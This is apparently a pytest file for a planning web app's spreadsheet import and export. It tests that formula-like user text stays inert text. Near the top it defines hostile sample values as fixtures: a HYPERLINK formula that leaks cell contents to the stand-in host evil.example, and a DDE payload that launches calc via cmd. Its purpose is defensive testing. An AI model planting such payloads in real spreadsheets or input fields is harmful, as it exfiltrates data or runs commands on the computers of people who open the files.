"""User text in exported files is text, never a formula (issue 13, part 3): the plan's .xlsx, the board's .xlsx
and CSV. Hostile values go in through the real pages, the files come out of the real routes, and the .xlsx is
read as the zip it is: no `<f>` element anywhere, the text intact; the import gives the same text back.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

from openpyxl import Workbook, load_workbook

from app import clock
from app.cells import put
from app.downloads import XLSX
from app.tables import Unit
from plans.spreadsheet import read_plan
from plans.tables import Field, Plan
from tasks.tables import Task, TaskEvent
from tests.builders import TaskSpec, make_plan

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CALC = "=cmd|' /C calc'!A0"
OTHERS = ("+1+1", "-2+3", "@SUM(A1:A2)")


def sheet_xml(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as package:
        return "".join(package.read(n).decode() for n in package.namelist() if n.startswith("xl/worksheets/"))


def cell_texts(body: bytes) -> set[str]:
    sheet = load_workbook(io.BytesIO(body)).active  # not data_only: a formula would come back as "=..."
    return {c.value for row in sheet.iter_rows() for c in row if c.data_type == "s" and c.value}


def save_hostile_task(web, actors) -> Plan:
    """Unit A's focal point types the hostile values into a task's form, as the issue describes, while the plan
    is a draft (an issued plan's tasks change by amendment); then the plan is issued."""
    year = clock.today().year
    plan = make_plan(actors.unit_a, year, {"Thể chế": [TaskSpec("Rà soát văn bản", dt.date(year, 6, 30))]},
                     title=f"Kế hoạch CCHC năm {year}", status="draft")
    task = Task.objects().first().run_sync()
    web.login(actors.focal_a)
    saved = web.post(f"/tasks/{task.id}", {"content": OTHERS[0], "lead": OTHERS[1], "partners": LEAK,
                                           "output": CALC, "note": OTHERS[2], "due_text": f"30/06/{year}",
                                           "version": str(task.version)})
    assert saved.status_code == 303, saved.text
    Plan.update({Plan.status: "issued"}).where(Plan.id == plan.id).run_sync()
    return plan


def test_a_task_saved_with_formulas_exports_them_as_text_to_any_signed_in_account(client, web, actors):
    plan = save_hostile_task(web, actors)
    web.login(actors.focal_b)  # an issued plan is a public document: another unit's focal point may export it
    response = web.get(f"/plans/{plan.id}/export.xlsx")
    assert response.status_code == 200
    xml = sheet_xml(response.content)
    assert "<f>" not in xml and "<f " not in xml
    assert {LEAK, CALC, *OTHERS} <= cell_texts(response.content)


def test_the_exported_plan_imports_back_with_the_same_text(client, web, actors):
    plan = save_hostile_task(web, actors)
    body = web.get(f"/plans/{plan.id}/export.xlsx").content
    parsed = read_plan(body).fields[0].tasks[0]
    assert (parsed.content, parsed.lead, parsed.partners, parsed.output, parsed.note) == (OTHERS[0], OTHERS[1],
                                                                                           LEAK, CALC, OTHERS[2])
    for table in (TaskEvent, Task, Field, Plan):  # the same plan again, through the import pages
        table.delete(force=True).run_sync()
    preview = web.post("/plans/import", {"unit": str(actors.unit_a.id), "year": ""},
                       files={"file": ("ke-hoach.xlsx", body, XLSX)})
    digest = re.search(r'name="digest" value="([0-9a-f]{64})"', preview.text)[1]
    saved = web.post("/plans/import/confirm", {"digest": digest, "unit": str(actors.unit_a.id), "year": ""})
    assert saved.status_code == 303, saved.text
    task = Task.objects().first().run_sync()
    assert (task.partners, task.output) == (LEAK, CALC)


def test_a_text_cell_beginning_with_equals_in_an_imported_sheet_is_stored_as_text_and_exported_as_text(web, actors):
    year = clock.today().year
    book = Workbook()
    sheet = book.active
    put(sheet["A1"], f"KẾ HOẠCH CẢI CÁCH HÀNH CHÍNH NĂM {year}")
    for column, heading in enumerate(("STT", "Nội dung nhiệm vụ", "Đơn vị phối hợp", "Thời gian hoàn thành",
                                      "Sản phẩm"), start=1):
        put(sheet.cell(row=3, column=column), heading)
    put(sheet["B4"], "I. Cải cách thể chế")
    for column, value in enumerate(("1", "Rà soát văn bản", LEAK, f"30/06/{year}", CALC), start=1):
        put(sheet.cell(row=5, column=column), value)
    buffer = io.BytesIO()
    book.save(buffer)
    web.login(actors.focal_a)
    preview = web.post("/plans/import", {"unit": str(actors.unit_a.id), "year": ""},
                       files={"file": ("ke-hoach.xlsx", buffer.getvalue(), XLSX)})
    digest = re.search(r'name="digest" value="([0-9a-f]{64})"', preview.text)[1]
    assert web.post("/plans/import/confirm", {"digest": digest, "unit": str(actors.unit_a.id),
                                              "year": ""}).status_code == 303
    task = Task.objects().first().run_sync()
    assert (task.partners, task.output) == (LEAK, CALC)
    exported = web.get(f"/plans/{Plan.objects().first().run_sync().id}/export.xlsx").content
    assert "<f>" not in sheet_xml(exported) and {LEAK, CALC} <= cell_texts(exported)


def hostile_unit_on_the_board(web, actors) -> int:
    year = clock.today().year
    Unit.update({Unit.name: CALC}).where(Unit.id == actors.unit_a.id).run_sync()
    make_plan(actors.unit_a, year, {"Thể chế": [TaskSpec("Việc", dt.date(year, 12, 31))]})
    web.login(actors.secretariat)
    return year


def test_the_board_xlsx_writes_a_units_name_as_text_and_counts_as_numbers(client, web, actors):
    year = hostile_unit_on_the_board(web, actors)
    response = web.get(f"/board/export.xlsx?year={year}")
    assert response.status_code == 200 and "<f>" not in sheet_xml(response.content)
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows() if r[2].value == CALC)
    assert row[2].data_type == "s" and row[3].value == 1 and row[3].data_type == "n"


def test_the_board_csv_puts_an_apostrophe_before_formula_like_text_only(client, web, actors):
    year = hostile_unit_on_the_board(web, actors)
    response = web.get(f"/board/export.csv?year={year}")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if len(r) > 3 and r[2].endswith(CALC))
    assert row[2] == "'" + CALC and row[3] == "1"
    assert not [c for r in rows for c in r if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_numbers_stay_numbers_and_every_formula_start_is_text():
    sheet = Workbook().active
    for row, value in enumerate((-2.75, 0, 3, dt.date(2024, 1, 18), None), start=1):
        put(sheet.cell(row=row, column=1), value)
        assert sheet.cell(row=row, column=1).value == value
    assert sheet["A1"].data_type == "n"
    for row, start in enumerate(("=", "+", "-", "@", "\t", "\r"), start=1):
        put(sheet.cell(row=row, column=2), f"{start}1+1")
        assert sheet.cell(row=row, column=2).data_type == "s" and sheet.cell(row=row, column=2).quotePrefix
    put(sheet["C1"], "#N/A")  # openpyxl would write this as an error cell
    assert sheet["C1"].data_type == "s"
